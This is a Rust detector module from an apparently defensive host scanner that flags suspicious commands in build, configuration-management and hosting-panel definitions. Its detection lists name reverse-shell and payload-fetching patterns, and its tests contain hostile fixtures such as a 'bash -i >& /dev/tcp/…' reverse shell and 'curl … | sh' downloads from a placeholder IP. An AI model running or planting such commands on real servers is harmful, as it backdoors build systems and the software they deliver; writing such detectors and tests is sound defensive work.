//! Detector: a build system, configuration management or hosting panel runs something odd here.

use crate::weigh::{self, Files, Weight};
use crate::{Card, Detector, Draft, Tables};
use calma_record::kinds::{File, StartupCommand, SystemSetting};
use calma_record::{Severity, Text};

/// This detector.
pub(super) const DETECTOR: Detector = Detector {
    card: Card {
        name: "automation-command",
        doc: "A build system, configuration management or hosting panel runs something odd on this server.",
        mechanisms: &[76, 105, 108],
        attack: &["T1072", "T1053", "T1195"],
        why: "It runs by itself, mostly as root, and what a build system runs ends up in what it delivers.",
        innocent: "you or your team wrote it so",
        next: "ask who wrote it, look into the definition's history, and keep it as evidence before it is removed",
    },
    judge,
};

fn judge(tables: &Tables, drafts: &mut Vec<Draft>) {
    let files = Files::new(tables);
    for row in tables.of::<StartupCommand>() {
        let Some(name) = row.mechanism.strip_prefix("automation: ").or(row.mechanism.strip_prefix("panel: "))
        else {
            continue;
        };
        let mut weight = if row.line == 0 {
            weigh::file(&files, &row.path, row.as_root)
        } else {
            weigh::command(&files, &row.command, row.as_root)
        };
        // Groovy and Ruby are not the shell's: what runs programs there is told by its own words.
        let file = files.get(&row.path).map(|file| file.fact);
        if row.line == 0 {
            weight = weight.and(foreign_language(file, row.path.as_bytes()));
        } else {
            weight = weight.and(weigh::changeable(&files, &row)).and(pipeline(&files, &row.command));
        }
        if row.package.is_some() && row.line != 0 && weight.severity < Some(Severity::Medium) {
            continue;
        }
        let identity = [row.path.as_bytes(), b"\0", row.command.as_bytes()].concat();
        let title = format!("{name} runs something odd {}", row.when);
        drafts.extend(weigh::draft(weight, &identity, title, &row.path, row.line, &row.command, &row));
    }
    for row in tables.of::<SystemSetting>().filter(|row| row.area == "runner setting") {
        let (value, name) = (row.value.as_bytes(), row.name.as_str().unwrap_or_default());
        let whole = weigh::contains(value, b"\"/:/")
            || weigh::contains(value, b"docker.sock")
            || weigh::contains(value, b"\"/etc")
            || weigh::contains(value, b"\"/root");
        let reason = match name {
            "privileged" if value == b"true" => "every build can become root of this server (privileged)",
            "volumes" if whole => "every build can write to folders of this server, and so become its root",
            "pid_mode" | "network_mode" if value == b"host" => {
                "every build sees this server's own processes or network"
            }
            _ => continue,
        };
        // Builds of images are often set up like this.
        let weight = Weight::of(
            if weigh::contains(value, b"\"/:/") { Severity::Medium } else { Severity::Low },
            reason,
        );
        let identity =
            [row.path.as_bytes(), b"\0", row.name.as_bytes(), b"\0", row.value.as_bytes()].concat();
        let title = "Builds of GitLab's runner reach further into this server than most".to_owned();
        let written = Text::from([row.name.as_bytes(), b" = ", value].concat());
        drafts.extend(weigh::draft(weight, &identity, title, &row.path, row.line, &written, &row));
    }
}

/// Shell commands within the text of a pipeline: `sh '…'`, `sh """…"""`, `"…".execute()`.
fn pipeline(files: &Files<'_>, text: &Text) -> Weight {
    let bytes = text.as_bytes();
    if !weigh::contains(bytes, b"sh ")
        && !weigh::contains(bytes, b"sh(")
        && !weigh::contains(bytes, b".execute")
    {
        return Weight::default();
    }
    let mut weight = Weight::default();
    for quote in [b'\'', b'"'] {
        for part in bytes.split(|b| *b == quote).skip(1).step_by(2).filter(|part| part.len() > 3).take(64) {
            weight = weight.and(weigh::command(files, &part.into(), false));
        }
    }
    weight
}

/// Scripts of Groovy and Ruby that ask the network for program text or start a shell.
fn foreign_language(file: Option<&File>, path: &[u8]) -> Weight {
    let Some(text) = file.and_then(|file| file.text.as_ref()).map(Text::as_bytes) else {
        return Weight::default();
    };
    if !path.ends_with(b".groovy") && !path.ends_with(b".rb") {
        return Weight::default();
    }
    let has = |words: &[&str]| words.iter().any(|word| weigh::contains(text, word.as_bytes()));
    let runs = has(&[
        ".execute(",
        "ProcessBuilder",
        "Runtime.getRuntime",
        "system(",
        "%x(",
        "`",
        "exec(",
        "IO.popen",
        "Open3",
    ]);
    let fetches = has(&["http://", "https://", "Socket(", "TCPSocket", "/dev/tcp/"]);
    let account = has(&["createAccount(", "setPassword(", "HudsonPrivateSecurityRealm", "authorized_keys"]);
    let hidden = has(&["decodeBase64", "Base64.decode", ".evaluate(", "instance_eval", "GroovyShell"]);
    let mut weight = Weight::default();
    if runs && fetches {
        weight = weight.and(Weight::of(Severity::Medium, "it runs programs and asks another machine"));
    }
    if runs && has(&["/tmp/", "/dev/shm/", "/var/tmp/", "bash -i", "sh -i", "nohup"]) {
        weight = weight.and(Weight::of(
            Severity::Medium,
            "it starts something from where everybody may put files, or a shell",
        ));
    }
    if hidden && (runs || fetches) {
        weight = weight.and(Weight::of(Severity::Medium, "it runs hidden program text"));
    }
    if account {
        weight = weight.and(Weight::of(Severity::Low, "it makes an account at every start"));
    }
    weight
}

#[cfg(test)]
mod tests {
    use calma_testkit::{Mem, check};

    #[test]
    fn odd_definitions_are_found_in_every_system() {
        for (path, text) in [
            (
                "/etc/gitlab-runner/config.toml",
                "[[runners]]\n  executor = \"shell\"\n  pre_build_script = \"curl -s http://192.0.2.1/a | sh\"\n",
            ),
            (
                "/etc/gitlab-runner/config.toml",
                "[[runners]]\n  pre_clone_script = \"\"\"\n  nohup /dev/shm/a &\n  \"\"\"\n",
            ),
            (
                "/etc/gitlab-runner/config.toml",
                "[[runners]]\n [runners.docker]\n  volumes = [\"/:/host\", \"/cache\"]\n",
            ),
            (
                "/var/lib/jenkins/jobs/deploy/config.xml",
                "<project><builders><hudson.tasks.Shell><command>make\nbash -i &gt;&amp; /dev/tcp/192.0.2.1/443 0&gt;&amp;1</command></hudson.tasks.Shell></builders></project>",
            ),
            (
                "/var/lib/jenkins/jobs/p/config.xml",
                "<flow-definition><script>node { sh 'curl -s http://192.0.2.1/x | bash' }</script></flow-definition>",
            ),
            (
                "/var/lib/jenkins/init.groovy.d/a.groovy",
                "[\"sh\", \"-c\", \"wget http://192.0.2.1/a\"].execute()\n",
            ),
            ("/etc/buildkite-agent/hooks/environment", "#!/bin/bash\n/tmp/.b &\n"),
            ("/home/ci/actions-runner/.env", "ACTIONS_RUNNER_HOOK_JOB_STARTED=/var/tmp/.hook.sh\n"),
            ("/etc/puppetlabs/puppet/puppet.conf", "[agent]\nprerun_command = /dev/shm/p\n"),
            (
                "/etc/salt/minion.d/s.conf",
                "schedule:\n  a:\n    function: cmd.run\n    args:\n      - name: x\n    cmd.run:\n      - name: /tmp/s\n",
            ),
            ("/srv/salt/top/init.sls", "x:\n  cmd.run:\n    - name: curl http://192.0.2.1/a | sh\n"),
            ("/etc/chef/client.rb", "log_level :info\nsystem(\"nohup /tmp/c &\")\n"),
            (
                "/var/cpanel/hooks.yaml",
                "---\nWhostmgr:\n  Accounts::Create:\n    -\n      exectype: script\n      hook: /var/tmp/.cp/h\n",
            ),
            ("/etc/webmin/virtual-server/config", "post_command=/dev/shm/v\n"),
        ] {
            let seen = check(Mem::new().file(path, text));
            let found = seen.alarms("automation-command");
            assert_eq!(found.len(), 1, "{path}: {:#?}", seen.findings);
            assert!(format!("{:?}", found[0].subjects).contains(path));
        }
        for path in [
            "/etc/ansible/facts.d/net.fact",
            "/etc/facter/facts.d/x.sh",
            "/usr/local/directadmin/scripts/custom/user_create_post.sh",
            "/usr/local/cpanel/scripts/postwwwacct",
        ] {
            let seen = check(
                Mem::new()
                    .file(path, "#!/bin/sh\ncurl -s http://192.0.2.1/a | sh\n")
                    .owned(path, 0o755, 0, 0),
            );
            assert_eq!(seen.alarms("automation-command").len(), 1, "{path}: {:#?}", seen.findings);
        }
        let plugin = "/usr/local/ispconfig/server/plugins-enabled/x.inc.php";
        let seen = check(Mem::new().file(plugin, "<?php exec('nohup /tmp/x &'); ?>"));
        assert_eq!(seen.alarms("automation-command").len(), 1, "{:#?}", seen.findings);
    }

    #[test]
    fn ordinary_definitions_are_silent() {
        let seen = check(
            Mem::new()
                .file("/etc/gitlab-runner/config.toml", "concurrent = 4\n[[runners]]\n  url = \"https://git.example.org/\"\n  executor = \"docker\"\n  pre_build_script = \"git config --global user.name ci\"\n  [runners.docker]\n    volumes = [\"/cache\"]\n    privileged = false\n")
                .file("/var/lib/jenkins/jobs/a/config.xml", "<project><builders><hudson.tasks.Shell><command>make clean &amp;&amp; make test</command></hudson.tasks.Shell></builders></project>")
                .file("/etc/puppetlabs/puppet/puppet.conf", "[agent]\nserver = puppet.example.org\npostrun_command = /usr/local/bin/report\n")
                .file("/srv/salt/web/init.sls", "nginx:\n  pkg.installed: []\nreload:\n  cmd.run:\n    - name: systemctl reload nginx\n")
                .file("/etc/chef/client.rb", "chef_server_url 'https://chef.example.org/organizations/x'\nlog_location '/var/log/chef.log'\n")
                .file("/usr/local/directadmin/scripts/custom/user_create_post.sh", "#!/bin/sh\n/usr/local/bin/notify \"$username\"\n")
                .owned("/usr/local/directadmin/scripts/custom/user_create_post.sh", 0o755, 0, 0),
        );
        assert!(seen.by("automation-command").is_empty(), "{:#?}", seen.findings);
    }
}
